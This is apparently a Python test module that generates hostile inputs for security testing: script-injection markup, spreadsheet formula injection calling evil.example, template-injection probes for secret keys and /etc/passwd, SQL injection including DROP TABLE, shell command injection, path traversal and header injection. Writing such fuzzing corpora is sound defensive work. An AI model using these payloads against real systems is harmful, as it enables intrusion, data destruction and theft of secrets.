"""Texts that some program would run, work out or obey: markup, templates, formulas, commands."""

from collections.abc import Iterator
from itertools import product

from tests.hostile.texts import BLANKS

EVENTS = ("onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onanimationstart")
TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe")
CALLS = ("alert(1)", "confirm`1`", "window.hit=1", "top.hit=1", "import('//evil.example/x.js')")
OPENERS = ("", '">', "'>", "</p>", "</td></tr></table>", "--></style>", "</title>", "]]>", "</bdi>")
SIGNS = tuple("=+-@＝＋－＠﹦﹢﹣﹫−")
FORMULAS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"x")', "SUM(A1:A9)")
FORMULAS += ("1+1|A", 'WEBSERVICE("http://evil.example/")', "DDE(1)", "IMPORTXML(A1)")


ODD_SCRIPTS = ("<ScRiPt>", "<script/x>", "<scr\u0131pt>", "＜script＞", "<<script>", "%3Cscript%3E")
MARKUP = r"""
&lt;b&gt;|&#60;b&#62;|&amp;lt;|&#x3c;script&#x3e;|&notin;|&quot;x|<!--|-->|<![CDATA[|</div>
javascript:alert(1)|data:text/html,<b>x|vbscript:x|<math><mi>x|<template>|<plaintext>|<xmp>
<base href=//evil.example>|<meta http-equiv=refresh content=0>|<form><input>|<noscript>|<b>bold</b>
<link rel=stylesheet href=//evil.example>|<style>*{display:none}</style>"""
WORKED_OUT = r"7*7|request|settings.SECRET_KEY|x\safe|''.__class__|config|block.super"
TEMPLATES = r"""
{% debug %}|{% load x %}|{% include '/etc/passwd' %}|{# x #}|{% endblock %}|{% now 'Y' %}|{{
%s %d %n %x|{}{0}{1}|%(outcome)s|%%|$HOME|= Heading|== Two|- item|+ item|/ term: x|*strong*|_emph_
`raw`|<label>|@ref|// comment|/* open|\ line|~ --- ...|$x^2$|#[x]"""
READS = "read|include|image|json|csv|plugin|bibliography|import|raw"
PATHS = "/etc/passwd|../../manage.py|sheet.json|http://evil.example/|main.typ"
TYPST = 'panic()|eval("1+1")|sys.inputs|pagebreak()|set page(width: 1pt)|x'
QUOTES = r"""'|"|`|')|'))|\'|%27"""
SQL = r"""' UNION SELECT 1,2,3--|1; SELECT pg_sleep(9)|x' AND randomblob(9)|%|_%|\
"""
DATA = r"""
{"a":1}|","x":"|\u0022|\n|]}|null|[]|{}|"|'|\x00|<?xml version='1.0'?>|<x:y/>|&a;|%3c%62
<!DOCTYPE x [<!ENTITY a 'b'>]>&a;|http://evil.example/|//evil.example|mailto:a@b.example?bcc=c
tel:911|?x=1&y"""


def words(text: str) -> list[str]:
    """The words of a constant."""
    return [word for line in text.strip("\n").split("\n") for word in line.split("|")]


def markup() -> Iterator[str]:
    """Elements, handlers and scripts, with whatever might end the place they stand in."""
    for opener, call in product(OPENERS, CALLS):
        yield f"{opener}<script>{call}</script>"
    for tag, event in product(TAGS, EVENTS):
        yield f"<{tag} {event}=window.hit=1>"
        yield f"'\"><{tag} {event}='{CALLS[len(tag + event) % 5]}'//"
    for quote, event in product(("'", '"', "`", " ", "/"), EVENTS):
        yield f"x{quote} {event}={quote}window.hit=1{quote} autofocus x={quote}"
    for word in ODD_SCRIPTS:
        yield f"{word}window.hit=1</script>"
    yield from words(MARKUP)


def templates() -> Iterator[str]:
    """What Django, Jinja or Typst would work out."""
    for word in (one.replace("\\", "|") for one in words(WORKED_OUT)):
        yield from (f"{{{{ {word} }}}}", f"{{{{{word}}}}}", f"${{{word}}}", f"#{{{word}}}")
        yield from (f"<%={word}%>", f"{{% {word} %}}", f"%({word})s", f"{{{word}}}")
        yield from (f"{{0.{word}}}", f"[[{word}]]")
    for name, path in product(words(READS), words(PATHS)):
        yield f'#{name}("{path}")'
    for code in words(TYPST):
        yield from (f"#{code}", f"]#{code}[", f'"#{code}"', f"${code}$")
    yield from words(TEMPLATES)


def formulas() -> Iterator[str]:
    """What a spreadsheet would work out."""
    for sign, formula in product(SIGNS, FORMULAS):
        yield f"{sign}{formula}"
    for before, sign in product((*BLANKS, " ", "'", "''", "\u202e", ";", ","), SIGNS[:6]):
        yield f"{before}{sign}1+1"
    for before in ("\t", "\r", "\n", "\r\n", " \t", "\x0b", "\x0c", "\x00", "\x85", "\u2028"):
        yield from (f"{before}=1+1", f"A{before}=1+1", f'"{before}=1+1"')


def commands() -> Iterator[str]:
    """SQL, shells, paths, headers, JSON, XML and addresses."""
    for quote, end in product(words(QUOTES), ("--", "#", "/*", ";", "")):
        yield f"x{quote} OR 1=1{end}"
        yield f"x{quote}; DROP TABLE eligibility_submission{end}"
    for before, command in product((";", "|", "&&", "`", "$(", "\n", "||"), ("id", "sleep 9")):
        yield f"x{before}{command}{')' if before == '$(' else ''}"
    for step, file in product(
        words(r"../|..\|%2e%2e/|..;/|/|file:///"), ("etc/passwd", "x\x00.pdf")
    ):
        yield f"{step * 3}{file}"
    for line in ("\r\n", "%0d%0a", "\n", "\r", "\u2028", "\u560d\u560a"):
        yield from (f"x{line}Set-Cookie: a=b", f"x{line}{line}<b>", f"x{line}Bcc: a@evil.example")
    yield from (*words(SQL), *words(DATA))
